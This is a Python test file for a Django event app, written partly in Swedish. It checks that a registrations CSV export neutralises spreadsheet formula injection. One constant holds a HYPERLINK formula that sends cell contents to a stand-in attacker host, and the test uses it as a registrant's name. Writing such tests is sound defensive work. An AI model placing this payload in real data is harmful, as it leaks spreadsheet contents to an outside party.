"""The registrations export cannot be turned into formulas by what people type."""

import csv
import io

import pytest
from django.utils import timezone

from events import services

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")'


def date_of(workshop):
    """The workshop's one occasion as the export names it."""
    return timezone.localtime(workshop.occasions.get().starts_at).strftime("%Y-%m-%d %H:%M")


def exported_rows(client, workshop):
    export = client.get(f"/admin/workshoppar/{workshop.pk}/anmalningar.csv")
    return list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))


def test_a_registrant_named_like_a_formula_is_exported_as_text(
    client, workshop, editor, make_person, kalmar_kommun
):
    attacker = make_person("a@kalmar.se", kalmar_kommun, first_name=FORMULA)
    attacker.last_name = ""
    attacker.save()
    services.register(workshop, attacker)
    client.force_login(editor)
    when = date_of(workshop)
    assert ["'" + FORMULA, "Kalmar", "Kommun", when, "Bekräftad", "", ""] in exported_rows(
        client, workshop
    )


def test_ordinary_registrants_and_queue_numbers_are_exported_unchanged(
    client, workshop, editor, make_person, kalmar_kommun
):
    for email, name in [
        ("a@kalmar.se", "Anna"),
        ("b@kalmar.se", "Bo-Göran"),
        ("c@kalmar.se", "Cia"),
    ]:
        services.register(workshop, make_person(email, kalmar_kommun, first_name=name))
    client.force_login(editor)
    rows = exported_rows(client, workshop)
    when = date_of(workshop)
    assert rows[1:] == [
        ["Anna Person", "Kalmar", "Kommun", when, "Bekräftad", "", ""],
        ["Bo-Göran Person", "Kalmar", "Kommun", when, "Bekräftad", "", ""],
        ["Cia Person", "Kalmar", "Kommun", when, "På väntelistan", "1", ""],
    ]
